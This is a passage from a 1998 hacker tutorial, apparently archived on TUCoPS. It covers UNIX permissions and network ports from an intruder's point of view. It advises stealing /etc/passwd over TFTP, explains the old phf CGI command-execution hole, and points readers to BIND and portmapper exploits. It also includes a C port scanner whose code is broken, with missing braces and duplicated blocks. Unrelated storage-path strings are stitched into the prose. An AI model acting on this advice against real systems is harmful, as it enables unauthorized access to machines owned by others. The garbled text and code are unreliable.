can also read and execute the directory, but not write to it.

-rw-r--r--  1   ndiablo ndiablo 240 Apr 16 10:32    rksh.c

This file is a regular file, owned by the user ndiablo and the group ndiablo.
The usr ndiablo can read and write to the file, but not execute it (since it
is a textfile, not a program). Other users who are in the ndiablo group can
only read the file, and users on the system who are not ndiablo or in the
ndiablo group can also only read the file.To put this simply, here is one more diagram:

                           |\ /\ /\ /
                           | |  |  |
                           | |  |  |
               "Special" Bit |  |  |
                             |  |  |
                Privelages For  |  Privelages for
                Owner           |  "Everyone Else"
                   Privelages For
                   OwningGroup
Now that you know the rudimentary UNIX commands, and important information
about the UNIX filesystem, one final thing the beginner should know about UNIX
is some beginner information on it's networking commands. Obviously, you should
find a good tutorial textfile on the Internet and TCP/IP if you are a little
unclear on the workings on the Internet.

UNIX has many networking commands - UNIX and the Internet go hand in hand,
partially because UNIX is one of the most network-integrated operating systems
there is. Obviously, if you are any sort of UNIX user, you need to know how
to use the power of UNIX on the network. The UNIX network services will be
explained on a protocol-to-protocol basis, covering the major ones.

Port 11: Systat
If you telnet to port 11 on a machine, you might get lucky and have the "who"
or "ps" command printed out to you. An admin is a total securityfool if he
runs this, and is just giving out information that is at the least background
on hacking the machine, and you can often find valid account names or find out
what programs are being run on the system through this.

Port 15: Netstat
If you telnet to port 15 on a machine, you might also get lucky and have the
"netstat" command printed out to you. Also, an admin would be a total moron
to run this service, and it gives you more security background on the machine.
Through netstat, you can get an idea of which services the machine serves,
and whatsystems the machine's users login from.

Port 21: FTP
FTP is the Internet File Transfer Protocol. UNIX runs a FTP daemon [server] on
port 21, which is usually wuftpd or the BSD FTP daemon at this point in time.
UNIX also has a FTP client, which can be accessed by typing "ftp" at your
shell prompt. The syntax for FTP, plus some useful commands are as follows:

Atthe shell prompt: ftp <>         \
                                                 >-- To connect to a system
At the "ftp>" prompt: open <>       /

Once you are connected and have logged in, you can use the "cd" command to
change directories, the "ls" command to list files, the "get" command to
get files, and the "send" command to send files. Typing "help" will give
more help on the FTP client program. You can disconnect by typing "bye" or
"quit" at the FTP prompt.

Port 22: SSH [Not standard, but common]
SSH is the port that the Secure Shell is usually installed on. Secure shell is
a very kewl program that resembles rlogin, but encrypts the session, which
protects against packet sniffing attacks. If the machine you are on has it
installed, you can open a secure shell session to a host using the "ssh"
command. For information on how to use the "ssh" command, just type "ssh"
at your prompt, and it will list all the options for its usage. Normally,
you would use a command like "ssh -l username".Port 23: Telnet
Telnet is the protocol which allows you to remotely login to machines over
the internet and establish a terminal session. The telnet daemon is pretty
standard. You can access the telnet client program by typing "telnet" at
your prompt. It's syntax is really, for most practical purposes, as follows:

At the shell prompt: telnet <> [port number]

The port number is optional, and specifies what port on the machine to
connect to. An example of this is "telnet 25". You can
exit a telnet session by logging out of the machine, or by typing the "escape
character", which is usually ^], and typing "quit" at the "telnet>" prompt.

Port 25: Sendmail
This is the default port for the system mailer, which is MOSTLYsendmail,
but sometimes could be a variant, like qmail, or perhaps a wrapper program,
one example of which is smap from TIS. You normally interface with Sendmail
through the "mail" program. It's syntax is very broad, but usually is something
like the following for most puropses:

At the shell prompt: mail

I have the problem that there are lots of quirks to Sendmail that could help
you get access, but as i'd like to keep this file broad, you'll have to look
for specific information on Sendmail in another textfile.

Port 53: BIND (DNS)
This is the domain name server port. The only boxes thatshould be running this
are a domain's nameservers [obviously]. There are a few exploits, some of which
have come out pretty recently at the time of this writing, that will help you
exploit the BIND daemon to get a shell on a remote system. Again, I havent
really played around with BIND a whole lot, so if you want more information
on the topic, i'll leave it up to you to find a textfile that is more specific
on the topic.

Port 69: TFTP
This is the Trivial FTP Protocol. If you ever find a host running this, quickly
connect and steal the /etc/passwd file. UNIX has a TFTP client, type "tftp"
at your shell prompt and, from that, type "help", or "?" at your "tftp" prompt
for moreinformation. I am not going into much depth here because it is a
seldom-used protocol.

Port 79: Finger
Finger is a protocol that can give you information on users. You can also
create DoS attacks using a technique called "redirecting" if the daemon
supports it. This one is really a mixed bag. For the most part, it doesnt
offer specific security vulnerabilities (although there are exceptions) execpt
providing information that could help you social engineer people. Smart
system admins often turn this one off, but you may find it running on largecomputers, or often, ISPs. You can perform a finger query by typing:

At the shell prompt: finger

Port 80: HTML
This is the port that HTML is served through. Even the most computer illiterate
idiots will know about this one. There are lotsa clients to interface with
the World Wide Web, a good one for the console [non-graphical] is lynx. Its
syntax as is follows:

At the shell prompt: lynx

HTML by itself doesnt offer any security vulnerabilities, but CGI really does.
If the admin is a moron, he still might be vulnerable to the "phf" CGI hole,
although at this point in time, its so old its doubtful. Just in case, though,
here is information on the "phf" hole:

You can connect to a site, and use the "phf" CGI program to execute commands
on the remote system. To do this, open up your web browser and type this URL:

The "command" is the command string. It follows directly after the "=x%0a"
stuff. For instance, if i wanted to know the UID that the HTTP daemon was
running under, i would enter:
\                                      /\/
 \                                    /  <-- The command to execute
  \ The URL for exploiting the  hole /
Or, if i wanted to type the /etc/passwd file, i would enter:

You may also be able to find other holes, major or minor in system CGI
programs. IRIX machines seem to have a particular problem with this sort
of thing.

Port 110: POP3POP3 is the Post Office Protocol, Version 3. As shown earlier in this file,
you can exploit certain versions of the POP3 daemon. This daemon is not
usually running on a computerunless the computer is a mailserver. You can
interface with POP using a UNIX program such asFetchmail. As this is
usually not a standard thing, i'll leave it to you to read the documentation
to Fetchmail.

Port 111: Sun RPC Portmapper
This is the RPC portmapper, which is the daemon that maps port numbers to other
Sun RPC services. There are also some exploits that will allow you to fuck with
the RPC portmapper, although I want to keep this file to the basics, so i'll
leave it to you to look around for more information.

Port 119: NNTP
This is where the Netnews daemon is. If you know what you're doing, you can
spoof netnews from this port. As I dont fuck with Netnews on the whole that
much, i'll leave it to you to find out how to fuck with NNTP.

You might be wondering if there is an easy way to find which ports are open on
a machine. Indeed, there is. Here is a useful program called TCPProbe:

/* -*-C-*- tcpprobe.c */
/* tcpprobe - report on which tcp ports accept connections */
/* IO ERROR,, Sep 15, 1995 */

#include <stdio.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <errno.h>
#include <netdb.h>
#include <signal.h>

int main(int argc, char **argv)
  int probeport = 0;
  struct hostent *host;
  int err, i, net;
  struct sockaddr_in sa;

  if (argc != 2) {
    printf("Usage: %s hostname\n", argv[0]);

  for (i = 1; i < 1024; i++) {
    strncpy((char *)&sa, "", sizeof sa);
    sa.sin_family = AF_INET;if (isdigit(*argv[1]))
      sa.sin_addr.s_addr = inet_addr(argv[1]);
    else if ((host = gethostbyname(argv[1])) != 0)
      strncpy((char *)&sa.sin_addr, (char *)host->h_addr, sizeof sa.sin_addr);
    else {
    sa.sin_family = AF_INET;
    if (isdigit(*argv[1]))
      sa.sin_addr.s_addr = inet_addr(argv[1]);
    else if ((host = gethostbyname(argv[1])) != 0)
      strncpy((char *)&sa.sin_addr, (char *)host->h_addr, sizeof sa.sin_addr);
    else {
    sa.sin_port = htons(i);
    net = socket(AF_INET, SOCK_STREAM, 0);
    if (net < 0) {
    err = connect(net, (struct sockaddr *) &sa, sizeof sa);
    if (err < 0) {
      printf("%s %-5d %s\r", argv[1], i, strerror(errno));
    } else {
      printf("%s %-5d accepted.                               \n", argv[1], i);
      if (shutdown(net, 2) < 0) {
  printf("                                                                \r");
  return (0);

This program will scan a machine's ports and report any that are open. It works
quite well, and will run quickly even on a slow PPP or SLIP link.

Now youhave covered the basics of getting around in UNIX, and also the basics
of getting access on the UNIX system.If you had noticed, this didnt offer much
ready-to-do stuff, although it did point to where it could be found or learned.
That is the whole point of hacking - don't do itcookie-cutter, that isnt real
hacking. The whole idea is to learn. Presented below are some hacking resources
and contact information.

The RootShell Archive -
Bugtraq Mailing List Archives -
Phrack, Inc. -
HackerZ Hideout -
DIABLO-NET Security Archives

$ by Netdiablo <> <> 6/19/98 $

TUCoPS is optimized to look best in Firefox® on awidescreen monitor (1440x900or better).
Site design & layout copyright © 1986-2015 AOH